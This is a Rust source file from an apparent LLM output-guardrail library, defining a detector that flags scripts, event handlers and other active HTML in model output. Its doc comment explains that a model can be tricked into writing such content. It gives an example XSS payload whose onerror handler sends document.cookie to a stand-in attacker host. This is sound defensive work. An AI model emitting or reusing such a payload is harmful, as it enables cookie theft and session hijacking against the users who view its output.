use rampart_core::declare_rule;

use super::{Detector, Engine, Hit, TokenRule, OUTPUT};
use crate::types::Category;

declare_rule! {
    /// ## What it does
    /// Reports active web content in model output: `<script>`, `javascript:` and
    /// `data:text/html` URLs, inline event handlers (`onerror=`, `onload=`), `<iframe>`,
    /// `<object>`, `<embed>`, `<form action=…>`, `<meta http-equiv="refresh">` and
    /// `<base href>`.
    ///
    /// ## Why is this dangerous?
    /// A client that renders model output as HTML runs what the model was tricked into
    /// writing: cross-site scripting in the operator's origin, session theft, phishing
    /// forms.
    ///
    /// ## Example
    /// ```text
    /// Here is your summary <img src=x onerror="fetch('//evil.example/'+document.cookie)">
    /// ```
    ///
    /// ## Remediation
    /// Block, or render output as text / sanitise HTML with an allow-list.
    ///
    /// ## False positives
    /// Code the user asked for (an HTML page, a JavaScript snippet) is reported when it
    /// appears outside a fenced code block only; inside ``` fences it scores low.
    ///
    /// ## References
    /// OWASP LLM05:2025 Improper Output Handling; CWE-79; guidelines SD-3 (output
    /// guardrails), OM-1.
    pub(crate) static RULE = {
        code: "OUT001",
        name: "active-content-in-output",
        severity: High,
        guidelines: [Sd3, Om1],
        summary: "Script, event handler or active HTML in model output",
    }
}

static RULES: &[TokenRule] = &[TokenRule {
    re: r#"(?i)<script\b|javascript\s*:|vbscript\s*:|data\s*:\s*text/html|<[a-z][a-z0-9]*\b[^>]*\son[a-z]{3,20}\s*=|<iframe\b|<object\b|<embed\b|<form\b[^>]*\baction\s*=|<meta\b[^>]*http-equiv\s*=\s*["']?refresh|<base\b[^>]*\bhref"#,
    validate,
}];

fn validate(text: &str, s: usize, e: usize) -> Option<Hit> {
    let before = text.get(..s)?;
    let fenced = before.matches("```").count() % 2 == 1;
    Some((if fenced { 0.3 } else { 0.85 }, s, e))
}

/// Registry entry.
pub(crate) static DETECTOR: Detector = Detector {
    meta: &RULE,
    category: Category::Injection,
    placeholder: "ACTIVE_CONTENT",
    roles: OUTPUT,
    weak: false,
    engine: Engine::Tokens(RULES),
};
